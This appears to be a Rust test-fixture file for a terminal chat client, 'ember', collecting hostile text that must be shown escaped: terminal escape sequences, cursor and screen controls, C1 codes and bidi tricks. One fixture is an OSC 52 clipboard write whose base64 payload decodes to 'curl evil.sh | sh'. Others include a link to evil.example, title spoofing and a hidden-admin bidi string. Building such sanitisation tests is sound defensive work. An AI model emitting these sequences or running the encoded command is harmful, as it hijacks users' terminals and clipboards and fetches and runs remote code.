//! Hostile text for the tests: the fixtures that must never reach a terminal as they are, and a
//! history database full of them.
#![allow(dead_code, clippy::unwrap_used)]

use std::path::Path;

use ember::store::{NewConversation, NewMessage, Store, StoredRole};

/// Text that must never reach a terminal as it is: every kind of escape sequence, the controls
/// that move the cursor or ring the bell, 8-bit (C1) controls, bidi tricks and invisible line
/// breaks; each with the visible form ember must show in its place.
pub fn escape_fixtures() -> Vec<(&'static str, String, &'static [&'static str])> {
    vec![
        (
            "osc52-clipboard",
            "copy this: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done\n".into(),
            &["␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇ done"],
        ),
        (
            "osc8-link",
            "see \x1b]8;;https://evil.example/\x1b\\the docs\x1b]8;;\x1b\\ here\n".into(),
            &["␛]8;;https://evil.example/␛\\the docs␛]8;;␛\\ here"],
        ),
        (
            "title",
            "\x1b]0;pwned title\x07\x1b]2;pwned again\x1b\\text\n".into(),
            &["␛]0;pwned title␇␛]2;pwned again␛\\text"],
        ),
        (
            "clear-screen",
            "before\x1b[2J\x1b[3J\x1b[Hafter\x1bc reset\n".into(),
            &["before␛[2J␛[3J␛[Hafter␛c reset"],
        ),
        (
            "cursor-moves",
            "a\x1b[10;10Hb\x1b[5Ac\x1b7d\x1b8e\x1b[?1049h alt screen\x1b[?25l hidden cursor\n".into(),
            &["a␛[10;10Hb␛[5Ac␛7d␛8e␛[?1049h alt screen␛[?25l hidden cursor"],
        ),
        (
            "dcs-query",
            "\x1bP+q544e\x1b\\\x1bP$qm\x1b\\\x1b[c\x1b[6n queries\n".into(),
            &["␛P+q544e␛\\␛P$qm␛\\␛[c␛[6n queries"],
        ),
        (
            "apc-pm-sos",
            "\x1b_Gf=100;AAAA\x1b\\ \x1b^private\x1b\\ \x1bXstring\x1b\\ kitty graphics\n".into(),
            &["␛_Gf=100;AAAA␛\\ ␛^private␛\\ ␛Xstring␛\\ kitty graphics"],
        ),
        (
            "c1-controls",
            "8-bit CSI \u{9b}2J, OSC \u{9d}0;t\u{9c}, DCS \u{90}q\u{9c}, NEL \u{85}\n".into(),
            &["8-bit CSI <U+009B>2J, OSC <U+009D>0;t<U+009C>, DCS <U+0090>q<U+009C>, NEL <U+0085>"],
        ),
        (
            "controls",
            "bell\x07 backspace\x08\x08 cr\roverwritten vt\x0b ff\x0c del\x7f nul-free\n".into(),
            &["bell␇ backspace␈␈ cr␍overwritten vt␋ ff␌ del␡ nul-free"],
        ),
        (
            "bidi",
            "if access != \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\" {\u{200F}\u{061C}\u{200E}\u{202A}\u{202B}\u{202C}\u{202D}\u{2067}\u{2068}\n"
                .into(),
            &[
                "user<U+202E> <U+2066>// admin<U+2069> <U+2066>",
                "{<U+200F><U+061C><U+200E><U+202A><U+202B><U+202C><U+202D><U+2067><U+2068>",
            ],
        ),
        ("crlf", "line one\r\nline two\r\n".into(), &["line one", "line two"]),
        ("separators", "one\u{2028}two\u{2029}three\n".into(), &["one<U+2028>two<U+2029>three"]),
    ]
}

/// Every fixture in one text.
pub fn all_fixtures() -> String {
    escape_fixtures().into_iter().map(|(_, text, _)| text).collect()
}

/// A history database in `data` holding one conversation full of hostile text (title, model,
/// cwd, system prompt, messages); returns its id.
pub fn hostile_history(data: &Path) -> i64 {
    let mut store = Store::open(&data.join("ember/history.db")).unwrap();
    let all = all_fixtures();
    let id = store
        .create_conversation(&NewConversation {
            model: "model\x1b]0;evil\x07\u{202E}".into(),
            system_prompt: Some(format!("system {all}")),
            cwd: "/tmp/\x1b[2Jdir".into(),
        })
        .unwrap();
    let user =
        store.add_message(id, None, &NewMessage::new(StoredRole::User, &format!("hostile question {all}"))).unwrap();
    store
        .add_message(id, Some(user), &NewMessage::new(StoredRole::Assistant, &format!("hostile answer {all}")))
        .unwrap();
    store.rename(id, "title \x1b]0;pwned\x07 \u{9b}2J \u{202E}txt.exe").unwrap();
    id
}
